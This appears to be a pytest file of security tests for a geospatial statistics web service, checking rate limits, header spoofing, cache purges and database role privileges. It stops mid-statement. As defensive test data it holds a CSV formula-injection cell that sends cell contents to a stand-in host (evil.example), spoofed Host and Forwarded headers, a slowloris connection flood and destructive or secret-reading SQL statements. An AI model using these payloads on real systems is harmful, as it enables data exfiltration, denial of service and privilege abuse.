"""Attacks and operators' mishaps the service must withstand (issue #22), each against a
real service process, database, cache or client socket."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import resource
import shutil
import socket
import threading
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import psycopg
import pytest
import shapely
import shapely.geometry
from fastapi.testclient import TestClient
from psycopg import sql as psql

from geo_core import grid
from geo_core.errors import TooManyRequests
from geo_service.http.app import create_app
from geo_service.settings import ServiceSettings
from geo_service.tiles.nginx import nginx_conf
from geo_service.users import add_user
from tests.conftest import PgCluster, live_process, serve
from tests.helpers import get_metrics

TILE = "/collections/commune-2025/tiles/WebMercatorQuad/6/50/28"
FULL = "/collections/commune-2025/items?limit=10000"


def _get(
    url: str, timeout: float = 15.0, headers: dict[str, str] | None = None
) -> tuple[int, bytes]:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def _slow_reader(base: str, path: str) -> socket.socket:
    """A client that asks for `path`, takes the first bytes and then stops reading."""
    parts = urlsplit(base)
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # (before connecting)
    sock.connect((parts.hostname, parts.port))
    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode())
    sock.settimeout(30)
    assert sock.recv(1024).startswith(b"HTTP/1.1 200")
    return sock


@pytest.fixture
def demo_copy(pg: PgCluster, demo_template: str) -> Iterator[str]:
    url = pg.create_database(demo_template)
    yield url
    pg.drop_database(url)


def _idle_in_transaction(database_url: str) -> int:
    with psycopg.connect(database_url) as conn:
        row = conn.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND state LIKE 'idle in transaction%' AND application_name LIKE 'geo-service%'"
        ).fetchone()
    return int(row[0]) if row else 0


def test_slow_readers_do_not_take_the_service_down(demo_copy: str) -> None:
    # (every reader from one address: the per-client limit is lifted to show the spooling)
    with serve(demo_copy, GEO_SERVICE_DOWNLOADS_PER_CLIENT="100") as base, ExitStack() as stack:
        assert _get(base + TILE)[0] == 200  # cached now
        for _ in range(20):
            stack.callback(_slow_reader(base, FULL).close)
        time.sleep(1.0)  # (long enough for the downloads to have read the database)
        assert _get(base + "/health", timeout=5)[0] == 200
        assert _get(base + TILE, timeout=5)[0] == 200
        status, body = _get(base + "/collections/commune-2025/items?limit=10", timeout=10)
        assert status == 200 and body.count(b'"Feature"') == 10
        assert _idle_in_transaction(demo_copy) == 0


def test_one_client_gets_a_bounded_number_of_downloads(demo_copy: str) -> None:
    with serve(demo_copy, GEO_SERVICE_DOWNLOADS_PER_CLIENT="3") as base, ExitStack() as stack:
        for _ in range(3):
            stack.callback(_slow_reader(base, FULL).close)
        status, body = _get(base + FULL)
        assert status == 429 and b'"parameter":"limit"' in body
        assert _get(base + "/health")[0] == 200  # (other requests are not counted)


def test_csv_cells_that_would_run_as_formulas_are_text(demo_copy: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        conn.execute(
            "UPDATE admin_unit SET name = %s WHERE vintage = '2025' AND code = '01'", (formula,)
        )
    settings = ServiceSettings(home=tmp_path)
    with TestClient(create_app(settings, db_url=demo_copy)) as client:
        items = client.get("/collections/province-2025/items", params={"f": "csv"}).text
        values = client.get(
            "/indicators/density/values",
            params={"vintage": "2025", "level": "province", "f": "csv"},
        ).text
    for text in (items, values):
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        names = [row[rows[0].index("name")] for row in rows[1:]]
        assert "'" + formula in names and formula not in names


def _app(demo_copy: str, tmp_path: Path, peer: str = "203.0.113.9", **settings: Any) -> TestClient:
    service = ServiceSettings(home=tmp_path, **settings)
    return TestClient(create_app(service, db_url=demo_copy), client=(peer, 40000))


def _admin(demo_copy: str) -> dict[str, str]:
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        return {"Authorization": f"Bearer {add_user(conn, 'boss', 'admin', [])}"}


def test_private_reads_keep_ea_tiles_private(demo_copy: str, tmp_path: Path) -> None:
    admin = _admin(demo_copy)
    tree = tmp_path / "tiles"
    with _app(
        demo_copy, tmp_path, public_reads=False, tile_cache="directory", tile_cache_path=tree
    ) as client:
        made = client.post("/communes/00004/ea-generate", headers=admin)
        assert made.status_code == 201 and made.json()["created"] > 0
        z, (x, y) = 14, next(grid.tiles_in((105.830, 21.030, 105.832, 21.032), 14))
        tile = f"/collections/enumeration-areas/tiles/WebMercatorQuad/{z}/{x}/{y}"
        refused = client.get(tile)
        assert refused.status_code == 401 and refused.json()["parameter"] == "Authorization"
        allowed = client.get(tile, headers=admin)
        assert allowed.status_code == 200 and allowed.content
        assert allowed.headers["cache-control"].startswith("private")
        assert client.get(tile, headers=admin).status_code == 200  # (from the service's cache)
        assert not (tree / "enumeration-areas").exists()
    conf = nginx_conf(
        ServiceSettings(
            home=tmp_path, public_reads=False, tile_cache="directory", tile_cache_path=tree
        )
    )
    pattern = re.search(r'location ~ "([^"]+)"', conf)
    assert pattern is not None
    served_as_file = re.compile(pattern.group(1).replace("(?<", "(?P<"))
    assert served_as_file.match("/collections/commune-2025/tiles/WebMercatorQuad/6/50/28")
    assert not served_as_file.match(tile)


def test_others_failures_never_refuse_a_valid_token(demo_copy: str, tmp_path: Path) -> None:
    admin = _admin(demo_copy)
    with _app(demo_copy, tmp_path) as client:
        statuses = [
            client.get("/users/me", headers={"Authorization": f"Bearer bad{i}"}).status_code
            for i in range(25)
        ]
        assert statuses[:20] == [401] * 20 and set(statuses[20:]) == {429}
        assert client.get("/users/me", headers=admin).status_code == 200
        again = client.get("/users/me", headers={"Authorization": "Bearer bad99"})
        assert again.status_code == 429 and "Retry-After" in again.headers


def test_forwarded_addresses_count_only_from_trusted_proxies(
    demo_copy: str, tmp_path: Path
) -> None:
    def failures(client: TestClient, forwarded_for: str) -> list[int]:
        return [
            client.get(
                "/users/me",
                headers={
                    "Authorization": f"Bearer x{i}",
                    "X-Forwarded-For": f"{forwarded_for}.{i}",
                },
            ).status_code
            for i in range(22)
        ]

    # an untrusted peer rotating X-Forwarded-For is still one address: blocked
    with _app(demo_copy, tmp_path) as client:
        assert failures(client, "10.0.0")[-1] == 429
    # behind a trusted proxy each forwarded address counts for itself
    with _app(demo_copy, tmp_path, peer="127.0.0.1", trusted_proxies="127.0.0.1") as client:
        assert set(failures(client, "10.0.0")) == {401}


def test_a_host_nobody_configured_is_never_reflected(demo_copy: str, tmp_path: Path) -> None:
    evil = {"Host": "evil.example"}
    with _app(demo_copy, tmp_path) as client:
        page = client.get("/collections/commune-2025/items?limit=2", headers=evil).json()
        tilejson = client.get(
            "/collections/commune-2025/tiles/WebMercatorQuad/tilejson.json", headers=evil
        ).json()
        assert "evil.example" not in json.dumps(page) + json.dumps(tilejson)
        assert page["links"][0]["href"].startswith("http://127.0.0.1:8000/")
    public = "https://stats.example.vn"
    with _app(demo_copy, tmp_path, public_url=public) as client:
        landing = client.get("/", headers=evil).json()
        assert {link["href"].split("/")[2] for link in landing["links"]} == {"stats.example.vn"}
    proxy: dict[str, Any] = {"peer": "127.0.0.1", "trusted_proxies": "127.0.0.1"}
    allowed = "localhost,geo.example.vn"
    with _app(demo_copy, tmp_path, **proxy, allowed_hosts=allowed) as client:
        forwarded = {"X-Forwarded-Host": "geo.example.vn", "X-Forwarded-Proto": "https"}
        links = client.get("/", headers={**evil, **forwarded}).json()["links"]
        assert links[0]["href"].startswith("https://geo.example.vn/")
        # a trusted proxy passes on what its client sent as Host (nginx: $http_host)
        for spoofed in (
            {"X-Forwarded-Host": "evil.example"},
            {"Forwarded": 'for=192.0.2.1;host="evil.example";proto=https'},
            {"X-Forwarded-Host": "evil.example, geo.example.vn"},
        ):
            landing = client.get("/", headers={**evil, **spoofed}).json()
            assert "evil.example" not in json.dumps(landing), spoofed
            assert landing["links"][0]["href"].startswith(("http://", "https://"))


def _ea_tile(client: TestClient, admin: dict[str, str]) -> tuple[str, str]:
    """Draft EAs in commune 00004 and the URL of a tile showing them; and that tile's path
    under a directory cache."""
    assert client.post("/communes/00004/ea-generate", headers=admin).status_code == 201
    z, (x, y) = 14, next(grid.tiles_in((105.830, 21.030, 105.832, 21.032), 14))
    return (
        f"/collections/enumeration-areas/tiles/WebMercatorQuad/{z}/{x}/{y}",
        f"enumeration-areas/default/{z}/{x}/{y}",
    )


@pytest.mark.parametrize("backend", ["sqlite", "directory", "redis"])
def test_a_truncate_leaves_no_stale_tile(
    backend: str, demo_copy: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    admin = _admin(demo_copy)
    extra: dict[str, Any] = {"tile_cache": backend, "tile_cache_path": tmp_path / "cache"}
    if backend == "redis":
        extra["redis_url"] = request.getfixturevalue("redis_url")
    with _app(demo_copy, tmp_path, **extra) as client:
        tile, path = _ea_tile(client, admin)
        before = client.get(tile)
        assert before.status_code == 200 and before.content
        assert client.get(tile).content == before.content  # (from the cache)
        with psycopg.connect(demo_copy, autocommit=True) as conn:
            conn.execute("TRUNCATE enumeration_area CASCADE")
        assert client.get(tile).content == b""
        if backend == "directory":  # (what nginx would send: nothing, or the new empty tile)
            served = tmp_path / "cache" / f"{path}.mvt"
            assert not served.exists() or served.read_bytes() == b""


def test_a_truncate_of_the_boundaries_reaches_every_layer(demo_copy: str, tmp_path: Path) -> None:
    with _app(demo_copy, tmp_path) as client:
        assert client.get(TILE).content
        with psycopg.connect(demo_copy, autocommit=True) as conn:
            conn.execute("TRUNCATE admin_unit_generalised")
        assert client.get(TILE).content == b""


def test_a_failed_purge_keeps_the_trees_epoch(demo_copy: str, tmp_path: Path) -> None:
    admin, tree = _admin(demo_copy), tmp_path / "tiles"
    settings = {"tile_cache": "directory", "tile_cache_path": tree}
    with _app(demo_copy, tmp_path, **settings) as client:
        tile, path = _ea_tile(client, admin)
        assert client.get(tile).content
        marked = (tree / ".epoch").read_text()
        stuck = tree / f"{path}.mvt.gz"  # a file the purge cannot delete (as root, too)
        stuck.unlink(missing_ok=True)
        (stuck / "in-the-way").mkdir(parents=True)
        with psycopg.connect(demo_copy, autocommit=True) as conn:
            conn.execute("DELETE FROM enumeration_area")
        assert client.get(tile).content == b""  # (the service itself checks freshness)
        assert (tree / ".epoch").read_text() == marked
        health = client.get("/health").json()
        assert health["status"] == "degraded" and health["tile_cache"] == "degraded"
        assert (
            'geo_service_tile_cache_degraded{backend="directory"} 1.0' in get_metrics(client).text
        )
    # the operator removes what was in the way and starts the service again: it purges
    shutil.rmtree(stuck)
    with _app(demo_copy, tmp_path, **settings) as client:
        assert client.get("/health").json()["status"] == "ok"
    assert int((tree / ".epoch").read_text()) > int(marked)
    assert not (tree / f"{path}.mvt").exists()  # (purged; nothing asked for it since)


def _spine(vertices: int) -> dict[str, Any]:
    """A polygon along Vietnam from Hà Giang to Cà Mau (about 220,000 km², under the area
    limit) with about `vertices` vertices."""
    spine = shapely.LineString(
        [
            (105.3, 22.8),
            (105.8, 21.0),
            (106.5, 19.0),
            (108.0, 16.0),
            (109.0, 12.5),
            (106.7, 10.8),
            (105.0, 9.0),
        ]
    )
    area = spine.buffer(0.5)
    length = area.exterior.length
    return shapely.geometry.mapping(shapely.segmentize(area, length / vertices))


def test_a_whole_country_overlay_is_refused_as_too_expensive(
    demo_copy: str, tmp_path: Path
) -> None:
    body = {"geometry": _spine(95_000), "indicators": ["population"]}
    with _app(demo_copy, tmp_path) as client:
        refused = client.post("/aggregate", json=body)
    assert refused.status_code == 422 and "Retry-After" not in refused.headers
    assert refused.json()["title"] == "TooExpensive"
    assert refused.json()["parameter"] == "geometry" and refused.json()["limit"] == 20_000_000


def test_a_query_stopped_at_its_time_limit_says_so(demo_copy: str, tmp_path: Path) -> None:
    admin = _admin(demo_copy)
    body = {"geometry": _spine(500), "indicators": ["population"]}
    with _app(demo_copy, tmp_path, anonymous_statement_timeout_ms=1) as client:
        stopped = client.post("/aggregate", json=body)
        assert stopped.status_code == 422 and "Retry-After" not in stopped.headers
        assert "time limit" in stopped.json()["detail"]
        assert client.get("/health").json()["status"] == "ok"
        # a signed-in user gets the normal time (and the connection its normal limit back)
        assert client.post("/aggregate", json=body, headers=admin).status_code == 200
        assert client.post("/aggregate", json=body, headers=admin).status_code == 200


def test_the_service_works_as_a_role_that_cannot_change_the_schema(demo_copy: str) -> None:
    login = f"web_{uuid.uuid4().hex[:8]}"  # (roles are the cluster's: one of this test's own)
    parts = urlsplit(demo_copy)
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        conn.execute(
            psql.SQL("CREATE ROLE {} LOGIN PASSWORD 'web-pass' IN ROLE geo_service_app").format(
                psql.Identifier(login)
            )
        )
        token = add_user(conn, "carto", "admin", [])
        conn.execute("UPDATE indicator SET cell_key_noise = 50 WHERE code = 'population'")
    restricted = f"postgresql://{login}:web-pass@{parts.hostname}:{parts.port}{parts.path}"
    try:
        # (as deployed: requests as the login, loading and disclosure protection as the owner)
        with serve(demo_copy, GEO_SERVICE_APP_DATABASE_URL=restricted) as base:
            assert _get(base + "/collections/commune-2025/items?limit=3")[0] == 200
            assert _get(base + TILE)[0] == 200
            made = urllib.request.Request(
                base + "/communes/00004/ea-generate",
                method="POST",
                headers={"Authorization": f"Bearer {token}"},
            )
            with urllib.request.urlopen(made, timeout=120) as response:
                assert response.status == 201  # (EA writes, their history and tile changes)
            # the cell-key method reads its secret through a function the login may call
            area = shapely.geometry.mapping(shapely.geometry.box(105.80, 21.00, 105.85, 21.05))
            body = {"geometry": area, "indicators": ["population"], "disclosure": "cell-key"}
            asked = urllib.request.Request(
                base + "/aggregate",
                data=json.dumps(body).encode(),
                headers={"Content-Type": "application/json"},
            )
            with urllib.request.urlopen(asked, timeout=60) as response:
                assert json.load(response)["results"][0]["disclosure"] == "cell-key"
        with psycopg.connect(restricted, autocommit=True) as conn:
            for statement in (
                "DROP TABLE admin_unit CASCADE",
                "DELETE FROM indicator_value",
                "TRUNCATE enumeration_area",
                "CREATE TABLE sneaky (x int)",
                "DELETE FROM suppressed_value",  # (publishing what disclosure control hides)
                "SELECT secret FROM disclosure_secret",  # (undoing the cell-key method)
            ):
                with pytest.raises(psycopg.errors.InsufficientPrivilege):
                    conn.execute(statement)
    finally:
        with psycopg.connect(demo_copy, autocommit=True) as conn:
            conn.execute(
                psql.SQL("DROP OWNED BY {}; DROP ROLE {}").format(
                    psql.Identifier(login), psql.Identifier(login)
                )
            )


def _send(
    url: str, method: str, body: dict[str, Any], headers: dict[str, str] | None = None
) -> tuple[int, Any]:
    request = urllib.request.Request(
        url,
        data=json.dumps(body).encode(),
        method=method,
        headers={"Content-Type": "application/json", **(headers or {})},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, json.load(response)
    except urllib.error.HTTPError as exc:
        return exc.code, json.load(exc)


def test_the_service_role_cannot_read_password_hashes(demo_copy: str) -> None:
    login = f"web_{uuid.uuid4().hex[:8]}"
    parts = urlsplit(demo_copy)
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        conn.execute(
            psql.SQL("CREATE ROLE {} LOGIN PASSWORD 'web-pass' IN ROLE geo_service_app").format(
                psql.Identifier(login)
            )
        )
        admin = {"Authorization": f"Bearer {add_user(conn, 'boss', 'admin', [])}"}
    restricted = f"postgresql://{login}:web-pass@{parts.hostname}:{parts.port}{parts.path}"
    try:
        with psycopg.connect(restricted, autocommit=True) as conn:
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute("SELECT password_hash FROM app_user")
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute("SELECT * FROM app_user")
        # (as deployed: every user and password route still works as that login)
        with serve(demo_copy, GEO_SERVICE_APP_DATABASE_URL=restricted) as base:
            user = {"name": "hoa", "role": "viewer", "scope": [], "password": "hoa pw 2029"}
            assert _send(f"{base}/admin/users", "POST", user, admin)[0] == 201
            signed = _send(f"{base}/users/sign-in", "POST", {**user, "label": "tablet"})
            assert signed[0] == 200 and signed[1]["user"]["name"] == "hoa"
            wrong = _send(f"{base}/users/sign-in", "POST", {"name": "hoa", "password": "x" * 9})
            assert wrong[0] == 401
            reset = _send(f"{base}/admin/users/hoa", "PATCH", {"password": "new pw 2029"}, admin)
            assert reset[0] == 200
            again = {"name": "hoa", "password": "new pw 2029"}
            assert _send(f"{base}/users/sign-in", "POST", again)[0] == 200
            status, listed = _get(f"{base}/admin/users", headers=admin)
            entries = {u["name"]: u for u in json.loads(listed)["users"]}
            assert status == 200 and entries["hoa"]["has_password"] is True
            assert entries["boss"]["has_password"] is False
    finally:
        with psycopg.connect(demo_copy, autocommit=True) as conn:
            conn.execute(
                psql.SQL("DROP OWNED BY {}; DROP ROLE {}").format(
                    psql.Identifier(login), psql.Identifier(login)
                )
            )


def _rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


def test_geopackage_downloads_do_not_grow_memory(demo_copy: str) -> None:
    def download(base: str, limit: int) -> None:
        # (a distinct selection each: a kept GeoPackage would be served, not built again)
        url = f"{base}/collections/commune-2025/items?f=gpkg&limit={limit}"
        status, body = _get(url, timeout=300)
        assert status == 200 and body[:16] == b"SQLite format 3\x00"

    # (a client's slots are freed just after its last byte: room for the next round at once)
    with live_process(demo_copy, GEO_SERVICE_DOWNLOADS_PER_CLIENT="20") as (base, process):
        after_round = []
        for round_ in range(5):
            workers = [
                threading.Thread(target=download, args=(base, 3321 - 10 * round_ - i))
                for i in range(10)
            ]
            for worker in workers:
                worker.start()
            for worker in workers:
                worker.join()
            after_round.append(_rss_mib(process.pid))
    # (each GeoPackage is written to disk in batches: memory does not follow the rounds up)
    # (before: 482 → 641 MiB over the five rounds, and on up in longer runs)
    assert after_round[-1] - after_round[0] < 60, after_round


def test_drawn_areas_being_checked_hold_no_database_connection(demo_copy: str) -> None:
    # Each body is just under the vertex limit and names no collection: checking the polygon
    # is all the work. It needs no connection, so the pool is never short of one (which
    # answered 503 "the database is not available" while the database was idle).
    body = json.dumps(
        {"geometry": _spine(99_000), "collection": "nope", "indicators": ["population"]}
    ).encode()
    answers: list[int] = []

    def post(base: str) -> None:
        request = urllib.request.Request(
            base + "/aggregate", data=body, headers={"Content-Type": "application/json"}
        )
        try:
            urllib.request.urlopen(request, timeout=300).read()
        except urllib.error.HTTPError as exc:
            answers.append(exc.code)

    small_pool = {
        "GEO_SERVICE_POOL_MAX_SIZE": "4",
        "GEO_SERVICE_POOL_TIMEOUT_S": "1",
        # (all 16 at once, from one address: the limits on drawn areas are lifted)
        "GEO_SERVICE_AGGREGATES_AT_ONCE": "16",
        "GEO_SERVICE_AGGREGATES_PER_CLIENT": "16",
    }
    with serve(demo_copy, **small_pool) as base:
        posts = [threading.Thread(target=post, args=(base,)) for _ in range(16)]
        for thread in posts:
            thread.start()
        for thread in posts:
            thread.join()
    assert answers == [400] * 16


def _cut(sock: socket.socket) -> bool:
    """True when the peer closed the connection (with or without a 408)."""
    sock.settimeout(5)
    try:
        data = sock.recv(100)
    except ConnectionResetError:
        return True
    return data == b"" or data.startswith(b"HTTP/1.1 408")


def test_slow_headers_neither_fill_nginx_nor_hold_it(demo_copy: str, tmp_path: Path) -> None:
    from tests.test_nginx_front import running_front

    # 1,100 requests from one address whose header never ends (slowloris): more than the
    # 1,024 connections nginx takes by default.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 4096)), hard))
    with running_front(demo_copy) as front, ExitStack() as stack:
        parts = urlsplit(front.nginx)
        sockets = []
        for _ in range(1100):
            sock = socket.create_connection((parts.hostname, parts.port))
            stack.callback(sock.close)
            sock.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
            sockets.append(sock)
        assert _get(front.nginx + "/health")[0] == 200
        time.sleep(12)  # (past nginx's header timeout)
        assert all(_cut(sock) for sock in sockets)
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_an_unknown_indicator_is_refused_before_the_overlay(demo_copy: str, tmp_path: Path) -> None:
    # (with 1 ms of database time the overlay itself would be stopped: a 422 "time limit")
    area = _spine(500)
    with _app(demo_copy, tmp_path, anonymous_statement_timeout_ms=1) as client:
        unknown = client.post("/aggregate", json={"geometry": area, "indicators": ["nope"]})
        assert unknown.status_code in (400, 404) and unknown.json()["parameter"] == "indicators"
        no_period = client.post(
            "/aggregate", json={"geometry": area, "indicators": ["population"], "period": "1900"}
        )
        assert no_period.status_code == 400 and no_period.json()["parameter"] == "period"
        assert (
            "time limit"
            in client.post(
                "/aggregate", json={"geometry": area, "indicators": ["population"]}
            ).json()["detail"]
        )


def _post_from(base: str, source: str, body: bytes) -> tuple[int, dict[str, str], bytes]:
    """POST /aggregate from a loopback address of its own: (status, headers, body)."""
    parts = urlsplit(base)
    head = (
        f"POST /aggregate HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Type: application/json"
        f"\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    address = (parts.hostname, parts.port)
    with socket.create_connection(address, source_address=(source, 0)) as sock:
        sock.sendall(head.encode() + body)
        sock.settimeout(120)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    top, _, content = answer.partition(b"\r\n\r\n")
    lines = top.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, v in (line.split(":", 1) for line in lines[1:])}
    return int(lines[0].split()[1]), headers, content


def _waiting_for_a_lock(database_url: str, count: int) -> bool:
    with psycopg.connect(database_url) as conn:
        row = conn.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND wait_event_type = 'Lock' AND application_name = 'geo-service'"
        ).fetchone()
    return row is not None and row[0] >= count


def test_area_statistics_at_once_are_limited(demo_copy: str) -> None:
    area = shapely.geometry.mapping(shapely.geometry.box(105.80, 21.00, 105.85, 21.05))
    body = json.dumps({"geometry": area, "indicators": ["population"]}).encode()
    limits = {
        "GEO_SERVICE_AGGREGATES_AT_ONCE": "2",
        "GEO_SERVICE_AGGREGATES_PER_CLIENT": "1",
        "GEO_SERVICE_POOL_TIMEOUT_S": "1",
    }
    answers: dict[str, int] = {}

    def post(source: str) -> None:
        answers[source] = _post_from(base, source, body)[0]

    with serve(demo_copy, **limits) as base, psycopg.connect(demo_copy) as holder:
        # two clients' requests wait inside the service for the catalogue, locked here
        holder.execute("LOCK TABLE indicator IN ACCESS EXCLUSIVE MODE")
        running = [threading.Thread(target=post, args=(f"127.0.0.1{i}",)) for i in (1, 2)]
        for thread in running:
            thread.start()
        deadline = time.monotonic() + 60
        while not _waiting_for_a_lock(demo_copy, 2):
            assert time.monotonic() < deadline, "the requests did not reach the database"
            time.sleep(0.1)
        # the same client again: 429 at once
        status, headers, content = _post_from(base, "127.0.0.11", body)
        assert status == 429 and "retry-after" in headers
        assert json.loads(content)["parameter"] == "limit" and json.loads(content)["limit"] == 1
        # another client while both of the service's places are taken: 503 after a while
        status, headers, content = _post_from(base, "127.0.0.13", body)
        assert status == 503 and "retry-after" in headers and json.loads(content)["limit"] == 2
        assert _get(base + "/health")[0] == 200  # (nothing else is held up)
        holder.rollback()
        for thread in running:
            thread.join()
        assert answers == {"127.0.0.11": 200, "127.0.0.12": 200}
        # their places are free again
        assert _post_from(base, "127.0.0.13", body)[0] == 200


def _asgi_get(client: TestClient, path: str, on_last_body: Any) -> int:
    """GET `path` straight through the app (on its own event loop), calling `on_last_body` as
    the response's last bytes reach the server (the last of its Content-Length, which may come
    before the closing message): a client could ask again from then on."""

    async def run() -> int:
        started: dict[str, int] = {}
        never = asyncio.Event()
        sent = False
        left: int | None = None
        called: list[bool] = []

        async def receive() -> dict[str, Any]:
            nonlocal sent
            if not sent:
                sent = True
                return {"type": "http.request", "body": b"", "more_body": False}
            await never.wait()
            return {"type": "http.disconnect"}

        async def send(message: dict[str, Any]) -> None:
            nonlocal left
            if message["type"] == "http.response.start":
                started["status"] = message["status"]
                lengths = [int(v) for k, v in message["headers"] if k == b"content-length"]
                left = lengths[0] if lengths else None
                return
            if left is not None:
                # a client that was told the length has everything once it has that many bytes
                left -= len(message.get("body", b""))
                if left <= 0 and not called:
                    called.append(True)
                    on_last_body()
            elif not message.get("more_body", False):
                on_last_body()

        path_only, _, query = path.partition("?")
        scope = {
            "type": "http",
            "asgi": {"version": "3.0", "spec_version": "2.4"},
            "http_version": "1.1",
            "method": "GET",
            "scheme": "http",
            "path": path_only,
            "raw_path": path_only.encode(),
            "query_string": query.encode(),
            "root_path": "",
            "headers": [(b"host", b"127.0.0.1:8000")],
            "client": ("203.0.113.9", 40000),
            "server": ("127.0.0.1", 8000),
            "state": {},
        }
        await client.app(scope, receive, send)
        return started["status"]

    assert client.portal is not None
    return client.portal.call(run)


def test_a_download_read_to_its_end_leaves_its_client_free_to_ask_again(
    demo_copy: str, tmp_path: Path
) -> None:
    refused: list[str] = []
    with _app(demo_copy, tmp_path, downloads_per_client=1) as client:
        downloads = client.app.state.services.downloads  # type: ignore[attr-defined]

        def ask_again() -> None:
            try:
                downloads.open("203.0.113.9")()
            except TooManyRequests as exc:
                refused.append(exc.message)

        for path in (
            "/collections/commune-2025/items?limit=50",
            "/collections/commune-2025/items?limit=50&f=csv",
            "/collections/commune-2025/items?limit=50&f=gpkg",
        ):
            assert _asgi_get(client, path, ask_again) == 200
    assert refused == []


@pytest.fixture
def web_login(demo_copy: str) -> Iterator[str]:
    """The URL of a login of this test's own in the service's role (as deployed)."""
    login = f"web_{uuid.uuid4().hex[:8]}"  # (roles are the cluster's)
    parts = urlsplit(demo_copy)
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        conn.execute(
            psql.SQL("CREATE ROLE {} LOGIN PASSWORD 'web-pass' IN ROLE geo_service_app").format(
                psql.Identifier(login)
            )
        )
    yield f"postgresql://{login}:web-pass@{parts.hostname}:{parts.port}{parts.path}"
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        conn.execute(
            psql.SQL("DROP OWNED BY {}; DROP ROLE {}").format(
                psql.Identifier(login), psql.Identifier(login)
            )
        )


def test_the_web_role_appends_history_and_never_reads_hidden_values_or_token_hashes(
    demo_copy: str, web_login: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with psycopg.connect(demo_copy, autocommit=True) as conn:
        admin = {"Authorization": f"Bearer {add_user(conn, 'boss', 'admin', [])}"}
        add_user(conn, "lan", "editor", ["01"], password="lan-password")
        sup = {"Authorization": f"Bearer {add_user(conn, 'minh', 'supervisor', ['01'])}"}
    # (as deployed: requests as the login, disclosure protection and audit as the owner)
    monkeypatch.setenv("DATABASE_URL", demo_copy)
    settings = ServiceSettings(home=tmp_path, app_database_url=web_login)
    with TestClient(create_app(settings)) as client:
        signed_in = client.post("/users/sign-in", json={"name": "lan", "password": "lan-password"})
        assert signed_in.status_code == 200, signed_in.text
        lan = {"Authorization": f"Bearer {signed_in.json()['token']}"}
        assert client.get("/users/me", headers=lan).json()["name"] == "lan"
        with psycopg.connect(demo_copy) as conn:
            row = conn.execute(
                "SELECT ST_AsBinary(geom) FROM commune_coverage WHERE vintage = '2025'"
                " AND code = '00004'"
            ).fetchone()
        assert row is not None
        commune = shapely.from_wkb(row[0])
        middle = commune.representative_point()
        x, y = middle.x, middle.y
        square = shapely.geometry.box(x - 0.002, y - 0.002, x + 0.002, y + 0.002)
        south = square.intersection(shapely.geometry.box(x - 1, y - 1, x + 1, y))
        north = square.intersection(shapely.geometry.box(x - 1, y, x + 1, y + 1))
        ids = []
        for part in (south, north):
            feature = {
                "type": "Feature",
                "geometry": shapely.geometry.mapping(part),
                "properties": {"census_round": "2029", "commune_code": "00004"},
            }
            made = client.post("/collections/enumeration-areas/items", json=feature, headers=lan)
            assert made.status_code == 201, made.text
            ids.append(made.json()["id"])
        items = "/collections/enumeration-areas/items"
        etags = ", ".join(client.get(f"{items}/{i}").headers["ETag"] for i in ids)
        merged = client.post(
            "/collections/enumeration-areas/merge",
            json={"ids": ids},
            headers={**lan, "If-Match": etags},
        )
        assert merged.status_code == 200, merged.text
        merged_area = shapely.geometry.shape(merged.json()["geometry"]).area
        assert merged_area == pytest.approx(square.area, rel=1e-3)
        for action, who in (("submit", lan), ("approve", sup)):
            etag = client.get(f"{items}/{ids[0]}").headers["ETag"]
            done = client.post(f"{items}/{ids[0]}/{action}", headers={**who, "If-Match": etag})
            assert done.status_code == 200, done.text
        history = client.get(f"{items}/{ids[0]}/history").json()["history"]
        assert [h["action"] for h in history] == ["create", "merge", "submit", "approve"]
        values = client.get(
            "/indicators/population/values", params={"vintage": "2025", "level": "province"}
        )
        assert values.status_code == 200 and values.json()["values"]
        assert client.get("/admin/disclosure/audit", headers=admin).status_code == 200
        assert client.post("/users/sign-out", headers=lan).status_code in (200, 204)
        assert client.get("/users/me", headers=lan).status_code == 401
    with psycopg.connect(web_login, autocommit=True) as conn:
        for statement in (
            "UPDATE ea_history SET reason = 'nothing happened'",  # (the trail is append-only)
            "DELETE FROM ea_history",
            "SELECT value FROM indicator_value",  # (hidden values: only published_value)
            "SELECT * FROM indicator_value",
            "SELECT value FROM disclosure_audit",
            "SELECT token_hash FROM app_token",
            "SELECT * FROM app_token",
            "UPDATE tile_epoch SET epoch = 0",  # (stale cached tiles would look fresh)
            "INSERT INTO tile_change (epoch, layer, reason) VALUES (1, 'x', 'x')",
        ):
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
